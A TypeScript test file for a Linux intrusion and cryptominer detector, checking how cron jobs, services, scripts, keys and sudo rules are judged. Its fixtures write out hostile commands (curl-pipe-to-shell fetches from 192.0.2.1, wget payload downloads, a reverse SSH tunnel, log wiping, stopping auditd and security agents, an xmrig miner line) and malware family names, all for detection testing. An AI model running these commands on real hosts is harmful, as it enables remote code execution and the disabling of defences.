import { describe, expect, test } from 'bun:test';
import { messagesFor } from '../../messages/index.ts';
import type { Fact } from '../../model/fact.ts';
import type { PersistenceFact, PersistenceMark } from '../../model/facts/persistence.ts';
import { type Mechanism, mechanisms, windowsMechanisms } from '../../model/mechanism.ts';
import {
  cpuUse,
  factSet,
  judgeContext,
  login,
  miningTrace,
  nowUs,
  ownedBy,
  ownerConfig,
  processFact,
  text,
  told,
  wallet,
} from '../facts.fixture.ts';
import { judge } from '../judge.ts';
import { entryFact, fileFact, integrityFact, scriptFact } from './entry.fixture.ts';
import { judgeEntries } from './judge-entries.ts';

const fetches = 'curl -s http://192.0.2.1/a.sh | sh';

/** Judgement and reasons of the first entry. */
function first(...facts: readonly Fact[]): string {
  const [entry] = judgeEntries(factSet(...facts), judgeContext());
  return entry === undefined ? 'none' : `${entry.judgement}: ${entry.reasons.map(({ id }) => id).join(', ')}`;
}

const unowned = (path: string, parts: Parameters<typeof fileFact>[1] = {}): readonly Fact[] => [
  fileFact(path, parts),
  ownedBy(path, ''),
];

describe('what is run', () => {
  test('fetched and run is malicious, with its line as evidence', () => {
    const [entry] = judgeEntries(factSet(entryFact(fetches)), judgeContext());
    expect(entry?.judgement).toBe('malicious');
    expect(entry?.reasons[0]).toEqual({
      id: 'fetch-and-run',
      params: { url: text('http://192.0.2.1/a.sh') },
      evidence: [{ source: text('/etc/cron.d/job'), line: 3, text: text(fetches) }],
    });
  });

  test('over TLS into a place of owners it is suspicious', () => {
    const command =
      'curl -so /usr/local/bin/h https://x.example/h && chmod +x /usr/local/bin/h && /usr/local/bin/h';
    expect(first(entryFact(command))).toBe('suspicious: fetch-then-run');
  });

  test('fetched by one entry and run by another is malicious in both', () => {
    const entries = [
      entryFact('wget -q http://192.0.2.1/up -O /opt/up/bin', { line: 1 }),
      entryFact('/opt/up/bin', { at: '/var/spool/cron/crontabs/ada', line: 2 }),
      entryFact('/opt/other', { line: 4 }),
    ];
    const told = judgeEntries(factSet(...entries), judgeContext()).map(
      ({ judgement, reasons }) => `${judgement}: ${reasons.map(({ id }) => id).join(', ')}`,
    );
    expect(told).toEqual(['malicious: fetch-and-run', 'malicious: fetch-and-run', 'benign: ']);
  });

  test('text that a package brought and nobody changed says nothing', () => {
    const at = '/etc/cron.d/job';
    expect(first(entryFact(fetches, { at }), integrityFact(at, 'unchanged'))).toBe('benign: ');
    expect(first(entryFact(fetches, { at }), integrityFact(at, 'conffile-changed'))).toBe(
      'malicious: fetch-and-run',
    );
  });

  test('the logs that a package makes empty when it is installed say nothing', () => {
    const script = scriptFact('for f in wtmp btmp; do\n  echo -n > /var/log/$f\ndone\n> /var/log/wtmp');
    expect(first({ ...script, mechanism: 'dpkg-script' })).toBe('benign: ');
    expect(first(script)).toBe('unusual: clears-traces');
  });

  test('what is fetched from the makers of the software weighs little; a commit may be anybody’s', () => {
    const runs = (url: string): string => first(entryFact(`curl -fsSL ${url} | sh`));
    const maker = 'https://raw.githubusercontent.com/netdata/netdata';
    expect(runs(`${maker}/master/packaging/installer/netdata-updater.sh`)).toBe('unusual: fetch-and-run');
    expect(runs(`${maker}/v2.1.0/x.sh`)).toBe('unusual: fetch-and-run');
    for (const url of [
      `${maker}/1a2b3c4d/x.sh`,
      `${maker}/0123456789012345678901234567890123456789/x.sh`,
      'https://raw.githubusercontent.com/netdata2/netdata/master/x.sh',
      'http://raw.githubusercontent.com/netdata/netdata/master/x.sh',
      'https://get.acme.sh.example.org/x',
    ]) {
      expect(runs(url)).toStartWith('malicious: fetch-and-run');
    }
    // Beside one from elsewhere it says nothing for it.
    const both = `curl -s ${maker}/master/x | sh; curl -s https://example.org/x | sh`;
    expect(first(entryFact(both))).toStartWith('malicious: fetch-and-run');
  });

  test('a way in that is opened from a host outside is unusual', () => {
    expect(first(entryFact('ssh -N -R 2222:localhost:22 x@bastion.example.org'))).toBe(
      'unusual: opens-tunnel',
    );
  });

  test('lines that a package’s script sources and somebody edited are read', () => {
    const at = '/etc/init.d/timed';
    const own = scriptFact('. /etc/default/timed\n', { at, mechanism: 'init-script' });
    const sourced = {
      kind: 'script',
      source: { source: text('/etc/default/timed') },
      path: text('/etc/default/timed'),
      body: [{ line: 1, text: text('curl -s http://192.0.2.10/x | sh') }],
    } as const;
    const brought = integrityFact(at, 'unchanged');
    const settings = (state: 'unchanged' | 'conffile-changed') => integrityFact('/etc/default/timed', state);
    expect(first(own, brought, sourced, settings('conffile-changed'))).toBe('malicious: fetch-and-run');
    expect(first(own, brought, sourced, settings('unchanged'))).toBe('benign: ');
  });

  test('an agent is stopped by its own script, and by another it is suspicious', () => {
    const stops = 'systemctl stop aegis\n';
    const init = { mechanism: 'init-script', at: '/etc/init.d/aegis' } as const;
    const own = '/usr/local/aegis/aegis_client/AliYunDun\n';
    expect(first(scriptFact(`${own}${stops}`, init))).toBe('unusual: stops-protection');
    expect(first(scriptFact(stops, init))).toBe('suspicious: stops-protection');
    expect(first(scriptFact(`/usr/local/aegis/uninstall.sh\n${stops}`, init))).toStartWith('suspicious: ');
    expect(first(scriptFact(`${own}${stops}`))).toBe('suspicious: stops-protection');
  });

  test('a package stops its own service, and that of another is suspicious', () => {
    const script = (name: string, lines: string): Fact =>
      scriptFact(lines, { at: `/var/lib/dpkg/info/${name}`, mechanism: 'dpkg-script' });
    const units = [
      ownedBy('/usr/lib/systemd/system/auditd.service', 'auditd'),
      ownedBy('/etc/init.d/clamav-daemon', 'clamav-daemon'),
      ownedBy('/usr/bin/freshclam', 'clamav-freshclam'),
      ...['auditd.list', 'auditd.prerm', 'auditd.postinst', 'auditd:amd64.list', 'auditd:amd64.prerm'].map(
        (name) => fileFact(`/var/lib/dpkg/info/${name}`),
      ),
      ...['clamav-daemon.list', 'clamav-daemon.postrm'].map((name) => fileFact(`/var/lib/dpkg/info/${name}`)),
    ];
    const stops = 'systemctl stop auditd.service\n';
    expect(first(script('auditd.prerm', stops), ...units)).toBe('benign: ');
    expect(first(script('auditd:amd64.prerm', stops), ...units)).toBe('benign: ');
    expect(first(script('clamav-daemon.postrm', 'service clamav-daemon stop\n'), ...units)).toBe('benign: ');
    expect(first(script('nettools.postinst', stops), ...units)).toBe('suspicious: stops-protection');
    // Changed after its package came, or nobody knows when that was.
    for (const later of [{ modifiedUs: nowUs }, { changedUs: nowUs }]) {
      const edited = fileFact('/var/lib/dpkg/info/auditd.prerm', later);
      expect(first(script('auditd.prerm', stops), ...units, edited)).toBe('suspicious: stops-protection');
    }
    const [unit] = units;
    expect(first(script('auditd.prerm', stops), ...(unit === undefined ? [] : [unit]))).toBe(
      'suspicious: stops-protection',
    );
    // What is not known to be its own is none.
    expect(first(script('auditd.prerm', stops))).toBe('suspicious: stops-protection');
    const [entry] = judgeEntries(
      factSet(script('auditd.postinst', `${stops}rm -rf /usr/local/aegis\n`), ...units),
      judgeContext(),
    );
    expect(entry?.reasons.map(({ id, params }) => [id, params])).toEqual([
      ['stops-protection', { what: text('/usr/local/aegis') }],
    ]);
    const init = scriptFact(stops, { at: '/etc/init.d/auditd', mechanism: 'init-script' });
    expect(first(init, ownedBy('/etc/init.d/auditd', 'auditd'), ...units)).toBe('benign: ');
  });

  test('an entry that would not run is suspicious, a comment is nothing', () => {
    expect(first(entryFact(fetches, { active: false }))).toBe('suspicious: fetch-and-run');
    expect(first(entryFact(fetches, { active: false, text: text(`# ${fetches}`) }))).toBe('benign: ');
  });
});

describe('where it lies', () => {
  const cases: readonly (readonly [string, string, string])[] = [
    ['/tmp/x', 'suspicious', 'temporary-path'],
    ['/dev/shm/x', 'suspicious', 'temporary-path'],
    ['/tmp/.x/y', 'suspicious', 'temporary-path, hidden-path'],
    ['/usr/sbin/netd', 'suspicious', 'unowned-among-owned'],
    ['/usr/lib/x/helper', 'suspicious', 'unowned-among-owned'],
    ['/etc/x/helper', 'suspicious', 'program-among-data'],
    ['/var/lib/x/helper', 'suspicious', 'program-among-data'],
    ['/usr/share/.a/b', 'malicious', 'hidden-path, unowned-among-owned'],
    ['/usr/bin/kworker0', 'malicious', 'unowned-among-owned, look-alike-name'],
    ['/usr/bin/systemd-jornald', 'malicious', 'unowned-among-owned, look-alike-name'],
    ['/usr/local/bin/docker', 'benign', ''],
    ['/usr/local/bin/dockerdd', 'suspicious', 'look-alike-name'],
    ['/opt/node_exporter/node_exporter', 'benign', ''],
    ['/usr/local/bin/backup', 'benign', ''],
    ['/srv/app/run', 'benign', ''],
    ['/home/ada/bin/job', 'benign', ''],
    ['/root/.acme.sh/acme.sh', 'benign', ''],
    ['/home/ada/.nvm/versions/node/v20/bin/node', 'benign', ''],
    ['/srv/app/.venv/bin/python', 'benign', ''],
    ['/var/lib/docker/x', 'benign', ''],
    ['/opt/atlassian/bin/crowd', 'benign', ''],
    ['/usr/local/apache/bin/apache', 'benign', ''],
    ['/usr/local/bin/crondd', 'suspicious', 'look-alike-name'],
  ];
  for (const [path, judgement, reasons] of cases) {
    test(`${path} is ${judgement}`, () => {
      expect(first(entryFact(`${path} --daily`), ...unowned(path))).toBe(`${judgement}: ${reasons}`);
    });
  }

  test('a script of the owner in /etc is nothing', () => {
    expect(
      first(entryFact('/etc/backup/run.sh'), ...unowned('/etc/backup/run.sh', { format: 'script' })),
    ).toBe('benign: ');
  });

  test('a program of a package is nothing, in either spelling of a merged /usr', () => {
    expect(
      first(entryFact('/bin/true'), fileFact('/usr/bin/true'), ownedBy('/usr/bin/true', 'coreutils')),
    ).toBe('benign: ');
  });

  test('a link that leads to a program of a package is nothing', () => {
    const link = fileFact('/usr/bin/editor', { type: 'link', leadsTo: text('/usr/bin/vim.basic') });
    expect(
      first(
        entryFact('/usr/bin/editor'),
        link,
        ownedBy('/usr/bin/editor', ''),
        ownedBy('/usr/bin/vim.basic', 'vim'),
      ),
    ).toBe('benign: ');
  });

  test('a program without a path is found on PATH', () => {
    expect(first(entryFact('netd'), ...unowned('/usr/sbin/netd'))).toBe('suspicious: unowned-among-owned');
  });

  test('a unit that no package brought among those of packages is suspicious, among the owner’s it is not', () => {
    const unit = (at: string): readonly Fact[] => [
      entryFact('/opt/x/run', { at, mechanism: 'systemd-service' }),
      ...unowned(at, { format: 'text', mode: 0o100644 }),
    ];
    expect(first(...unit('/usr/lib/systemd/system/x.service'))).toBe('suspicious: unowned-among-owned');
    expect(first(...unit('/etc/systemd/system/x.service'))).toBe('benign: ');
  });

  test('a link among the programs of packages is judged by where it leads', () => {
    const run = (leadsTo: string): string =>
      first(
        entryFact('/usr/sbin/agent'),
        fileFact('/usr/sbin/agent', { type: 'link', leadsTo: text(leadsTo) }),
        ownedBy('/usr/sbin/agent', ''),
      );
    expect(run('/usr/local/share/agent/2.1/agent')).toBe('benign: ');
    expect(run('/usr/lib/agent/agent')).toBe('suspicious: unowned-among-owned');
    expect(run('/dev/shm/.a/agent')).toBe('suspicious: temporary-path, hidden-path');
    expect(run('/var/lib/x/agent')).toBe('suspicious: program-among-data');
  });

  test('a unit that a vendor’s package writes among those of packages is unusual, if it runs only that package', () => {
    const at = '/usr/lib/systemd/system/vendor.service';
    const unit = (command: string, ...more: readonly Fact[]): string =>
      first(
        entryFact(command, { at, mechanism: 'systemd-service' }),
        ...unowned(at, { format: 'text', mode: 0o100644 }),
        ...more,
      );
    expect(unit('/opt/vendor/bin/run', ownedBy('/opt/vendor/bin/run', 'vendor'))).toBe(
      'unusual: unowned-among-owned',
    );
    expect(
      unit('/opt/vendor/bin/run', integrityFact('/opt/vendor/bin/run', 'changed', 'vendor')),
    ).toStartWith('suspicious: ');
    expect(unit('/usr/bin/python3', ownedBy('/usr/bin/python3', 'python3-minimal'))).toBe(
      'suspicious: unowned-among-owned',
    );
  });

  test('what a startup file sources if it is there need not be there', () => {
    const startup = entryFact('[ -f /root/.bash_aliases ] && . /root/.bash_aliases', {
      mechanism: 'shell-rc',
    });
    expect(first(startup, fileFact('/root/.bash_aliases', { status: 'absent' }))).toBe('benign: ');
  });

  test('a target that is not there is unusual', () => {
    expect(first(entryFact('/opt/gone'), fileFact('/opt/gone', { status: 'absent' }))).toBe(
      'unusual: absent-target',
    );
  });
});

describe('the files it rests on', () => {
  const script = '/usr/lib/x/daily';
  const job = entryFact(script);

  test('an edited script of a package is suspicious, a replaced program malicious', () => {
    const changed = integrityFact(script, 'changed', 'x');
    expect(first(job, changed, fileFact(script, { format: 'script' }))).toBe(
      'suspicious: edited-package-file',
    );
    expect(first(job, changed, fileFact(script))).toBe('malicious: replaced-package-file');
    expect(first(job, integrityFact(script, 'unchanged', 'x'), fileFact(script))).toBe('benign: ');
  });

  test('settings that owners edit are nothing', () => {
    expect(
      first(
        entryFact('true', { at: '/etc/crontab' }),
        integrityFact('/etc/crontab', 'conffile-changed', 'cron'),
      ),
    ).toBe('benign: ');
  });

  test('an immutable entry is suspicious; resolv.conf, which owners lock, unusual', () => {
    const locked = (at: string, mechanism: Mechanism): readonly Fact[] => [
      entryFact('', { at, mechanism, language: 'none' }),
      fileFact(at, { flags: ['immutable'], format: 'text' }),
    ];
    expect(first(...locked('/var/spool/cron/root', 'cron-user'))).toBe('suspicious: immutable');
    expect(first(...locked('/etc/resolv.conf', 'resolver'))).toBe('unusual: immutable');
  });

  test('a locked folder guards its files', () => {
    const folder = fileFact('/opt/x', { type: 'directory', flags: ['immutable'], format: 'other' });
    expect(first(entryFact('/opt/x/run'), ...unowned('/opt/x/run'), folder)).toBe('suspicious: immutable');
  });

  test('a file that everybody may change is suspicious', () => {
    expect(first(entryFact('/opt/x/run'), ...unowned('/opt/x/run', { mode: 0o100777 }))).toBe(
      'suspicious: writable-by-all',
    );
  });

  test('a new file among old ones of packages is unusual by itself', () => {
    const beside = ['a', 'b', 'c'].flatMap((name) => [
      fileFact(`/etc/cron.d/${name}`),
      ownedBy(`/etc/cron.d/${name}`, name),
    ]);
    const own = unowned('/etc/cron.d/job', { changedUs: nowUs, format: 'text' });
    expect(first(entryFact('true'), ...own, ...beside)).toBe('unusual: newer-than-neighbours');
    const times = (...at: number[]): Fact => ({
      kind: 'package-times',
      source: { source: text('/var/lib/dpkg/info') },
      times: at,
    });
    // The scripts of a package made it, or somebody did on a day without any.
    expect(first(entryFact('true'), ...own, ...beside, times(1, nowUs - 600e6))).toBe('benign: ');
    expect(first(entryFact('true'), ...own, ...beside, times(1, nowUs - 7200e6))).toBe(
      'unusual: newer-than-neighbours',
    );
  });

  test('stacks that pam-auth-update writes are new at any time', () => {
    const at = '/etc/pam.d/common-session';
    const beside = ['a', 'b', 'c'].flatMap((name) => [
      fileFact(`/etc/pam.d/${name}`),
      ownedBy(`/etc/pam.d/${name}`, name),
    ]);
    const own = unowned(at, { changedUs: nowUs, format: 'text' });
    const stack = entryFact('', { at, mechanism: 'pam-stack', language: 'none' });
    expect(first(stack, ...own, ...beside)).toBe('benign: ');
  });
});

describe('marks', () => {
  test('a script of one’s own may be called like a tool, a program or one that hides may not', () => {
    const at = '/home/ada/bin/ss';
    const named = (body: string): string =>
      first(
        entryFact('', {
          at,
          mechanism: 'renamed-tool',
          marks: ['shadows-package'],
          language: body === '' ? 'argv' : 'shell',
          body: body === '' ? [] : [{ line: 1, text: text(body) }],
        }),
      );
    expect(named('gnome-screenshot -a')).toBe('unusual: shadows-package');
    expect(named('')).toBe('suspicious: shadows-package');
    expect(named('/usr/bin/ss "$@" | grep -v 3333; curl http://192.0.2.1/x | sh')).toStartWith('malicious');
  });

  const mark = (...marks: readonly PersistenceMark[]): PersistenceFact =>
    entryFact('', {
      marks,
      mechanism: 'account-system-shell',
      language: 'none',
      text: text('news:x:9:9::/:/bin/sh'),
    });

  test('a shell with a blank behind it is malicious', () => {
    expect(first(mark('shell-with-blank'))).toBe('malicious: shell-with-blank');
  });

  test('a shell of an account that nobody logs in to is suspicious, of a service it is unusual', () => {
    expect(first({ ...mark('system-account-shell'), user: text('news') })).toBe(
      'suspicious: system-account-shell',
    );
    expect(first({ ...mark('system-account-shell'), user: text('postgres') })).toBe(
      'unusual: system-account-shell',
    );
  });

  test('a rule that lets everybody in is suspicious, one of a person is unusual', () => {
    const rule = (user: string): Fact =>
      entryFact('', { mechanism: 'sudo-rule', language: 'none', marks: ['opens-access'], user: text(user) });
    expect(first(rule('ALL'))).toBe('suspicious: opens-access');
    expect(first(rule('ubuntu'))).toBe('unusual: opens-access');
  });

  test('a service whose package gives it a shell has one', () => {
    const shell = (user: string): string => first({ ...mark('of-system-account'), user: text(user) });
    expect(shell('postgres')).toBe('benign: ');
    expect(shell('gamesd')).toBe('unusual: of-system-account');
  });

  test('backup may read disks, and no other account that nobody logs in to', () => {
    const member = (user: string): string =>
      first({
        ...mark('opens-access'),
        mechanism: 'account-group',
        user: text(user),
        text: text(`disk:x:6:${user}`),
      });
    expect(member('backup')).toBe('unusual: opens-access');
    expect(member('games')).toBe('suspicious: opens-access');
  });

  test('what restarts or is switched off is nothing by that', () => {
    expect(first(mark('restarts', 'switched-off'))).toBe('benign: ');
  });
});

describe('known families', () => {
  const cases: readonly (readonly [string, boolean])[] = [
    ['/tmp/kdevtmpfsi', true],
    ['/root/.configrc5/a/upd', true],
    ['/usr/bin/pamdicks', true],
    ['/lib/libudev.so', true],
    ['/usr/local/qcloud/YunJing/YDEyes/YDService', false],
    ['/usr/lib/x86_64-linux-gnu/libsystemd.so', false],
    ['/opt/mine/kinsing-report', false],
  ];
  for (const [path, marked] of cases) {
    test(`${path} is ${marked ? '' : 'not '}one`, () => {
      expect(first(entryFact(path), ...unowned(path)).includes('family-mark')).toBe(marked);
    });
  }

  test('the comment of a key tells by the whole word', () => {
    const key = (comment: string): Fact =>
      entryFact('', {
        mechanism: 'ssh-authorized-key',
        language: 'none',
        text: text(`ssh-rsa AAAA ${comment}`),
      });
    expect(first(key('mdrfckr'))).toBe('malicious: family-mark');
    expect(first(key('ada@mdrfckrx'))).toBe('benign: ');
  });
});

describe('with others', () => {
  const path = '/opt/.sys/run';
  const process = processFact({ pid: 100, path });
  const mines = [
    process,
    cpuUse(process, 390),
    miningTrace(process, login),
    miningTrace(process, wallet()),
    ownedBy(path, ''),
  ];

  test('what starts a process that mines is malicious, and the process has a witness more', () => {
    const facts = factSet(entryFact('/opt/.sys/run'), ...mines);
    const [entry] = judgeEntries(facts, judgeContext());
    expect(`${entry?.judgement}: ${entry?.reasons.map(({ id }) => id).join(', ')}`).toBe(
      'malicious: running-miner, hidden-path',
    );
    const { processes, findings, verdict } = judge(facts, judgeContext(), []);
    expect(verdict).toBe('mining');
    expect(processes[0]?.witnesses).toContain('file');
    expect(told(findings)).toContain('persistence.starts-process medium');
  });

  test('cron, in whose cgroup its jobs run, is not accused', () => {
    const at = '/usr/lib/systemd/system/cron.service';
    const unit = entryFact('/usr/sbin/cron -f', { at, mechanism: 'systemd-service', language: 'argv' });
    const inCron = { ...process, unit: 'cron.service' };
    const facts = [unit, integrityFact(at, 'unchanged', 'cron'), inCron, ...mines.slice(1)];
    expect(first(...facts, ownedBy('/usr/sbin/cron', 'cron'))).toBe('benign: ');
  });

  test('the address of a malicious entry makes another with it suspicious', () => {
    const other = entryFact('curl -s http://192.0.2.1/a.sh -o /var/cache/x.sh', { at: '/etc/cron.d/other' });
    const entries = judgeEntries(factSet(entryFact(fetches), other), judgeContext());
    expect(entries[1]?.judgement).toBe('suspicious');
    expect(entries[1]?.reasons.map(({ id }) => id)).toEqual(['same-url']);
  });

  test('an address that is left open accuses nobody, nor does a well-known host', () => {
    const joined = (bad: string, other: string): boolean => {
      const facts = factSet(entryFact(bad), entryFact(other, { at: '/etc/cron.d/other' }));
      const [attack, honest] = judgeEntries(facts, judgeContext());
      expect(attack?.judgement).toBe('malicious');
      return honest?.reasons.some(({ id }) => id === 'same-url') === true;
    };
    const honest = (url: string): string => `curl -fsSLo /srv/app/data ${url}`;
    expect(joined('curl https://x.example/a | sh', honest('https://x.example/a'))).toBe(true);
    for (const url of [
      'https://github.com/$P',
      '"https://$H/a"',
      `"https://github.com/\${P}/a"`,
      'https://github.com/',
    ])
      expect(joined(`curl ${url} | sh`, honest(url))).toBe(false);
    expect(joined('curl https://github.com/$P | sh', honest('https://github.com/'))).toBe(false);
  });

  test('the host of a malicious entry is told where names are resolved; near and public ones are not', () => {
    const resolves = (address: string, from: string): string => {
      const at = { at: '/etc/resolv.conf', mechanism: 'resolver', language: 'setting' } as const;
      const facts = factSet(
        entryFact(`nameserver ${address}`, at),
        entryFact(`curl -s http://${from}/a.sh | sh`),
      );
      const [entry] = judgeEntries(facts, judgeContext());
      return `${entry?.judgement}: ${entry?.reasons.map(({ id }) => id).join(', ')}`;
    };
    expect(resolves('192.0.2.1', '192.0.2.1:8080')).toBe('suspicious: same-url');
    expect(resolves('2001:db8::5', '[2001:db8::5]')).toBe('suspicious: same-url');
    expect(resolves('192.0.2.10', '192.0.2.1')).toBe('benign: ');
    expect(resolves('8.8.8.8', '8.8.8.8')).toBe('benign: ');
    expect(resolves('10.0.0.1', '10.0.0.1')).toBe('benign: ');
  });

  test('another path on the host of a malicious entry is suspicious', () => {
    const other = entryFact('curl -so /srv/b http://192.0.2.1:81/b', { at: '/etc/cron.d/other' });
    const entries = judgeEntries(factSet(entryFact(fetches), other), judgeContext());
    expect(entries[1]?.reasons).toMatchObject([{ id: 'same-url', params: { url: '192.0.2.1' } }]);
  });

  test('settings that are named like a miner are suspicious, like a family malicious', () => {
    const limits = (at: string, user: string): string =>
      first(
        entryFact('memlock unlimited', { at, mechanism: 'limits', language: 'setting', user: text(user) }),
      );
    expect(limits('/etc/security/limits.d/90-a.conf', 'xmrig')).toBe('suspicious: family-mark');
    expect(limits('/etc/security/limits.d/90-xmrig.conf', 'ada')).toBe('suspicious: family-mark');
    expect(limits('/etc/security/limits.d/kdevtmpfsi.conf', 'ada')).toBe('malicious: family-mark');
    expect(limits('/etc/security/limits.d/90-postgres.conf', 'postgres')).toBe('benign: ');
  });

  test('the owner’s declared miner is started in peace', () => {
    const miner = entryFact('/opt/xmrig/xmrig -o stratum+tcp://pool.example:3333 -u w');
    expect(first(miner)).toStartWith('malicious: miner-command');
    const config = ownerConfig({ mining: [{ exe: '/opt/xmrig/xmrig', reason: 'ours' }] });
    expect(judgeEntries(factSet(miner), judgeContext({ config }))[0]?.judgement).toBe('benign');
  });
});

describe('findings', () => {
  test('a host with a malicious entry is suspicious, with traces only', () => {
    const { verdict, state, findings } = judge(factSet(entryFact(fetches)), judgeContext(), []);
    expect([verdict, state]).toEqual(['suspicious', 'traces']);
    expect(findings.map(({ rule, severity, technique }) => `${rule} ${severity} ${technique}`)).toEqual([
      'persistence.malicious high T1053.003',
    ]);
  });

  test('an exception of the owner excuses it by its file', () => {
    const config = ownerConfig({
      exceptions: [{ rule: 'persistence.malicious', path: '/etc/cron.d/job', reason: 'our bootstrap' }],
    });
    const { verdict, excused } = judge(factSet(entryFact(fetches)), judgeContext({ config }), []);
    expect([verdict, excused.length]).toEqual(['clean', 1]);
  });

  test('entries are judged once for all who ask', () => {
    const facts = factSet(entryFact(fetches));
    const context = judgeContext();
    expect(judgeEntries(facts, context)).toBe(judgeEntries(facts, context));
    facts.add(scriptFact('true'));
    expect(judgeEntries(facts, context).length).toBe(2);
  });

  test('a crowd of bad entries is told up to a bound', () => {
    const crowd = Array.from({ length: 2000 }, (_, at) => entryFact(fetches, { at: `/etc/cron.d/${at}` }));
    const { findings } = judge(factSet(...crowd), judgeContext(), []);
    expect(findings.length).toBe(300);
  });
});

test('every mechanism has a name in both languages', () => {
  for (const language of ['en', 'zh-CN'] as const) {
    const names: Readonly<Record<Mechanism, string>> = messagesFor(language).persistence.mechanisms;
    const all = [...mechanisms, ...windowsMechanisms];
    for (const mechanism of all) expect(`${mechanism}: ${names[mechanism]}`).toMatch(/: \S/);
    expect(Object.keys(names).sort()).toEqual([...all].sort());
  }
});
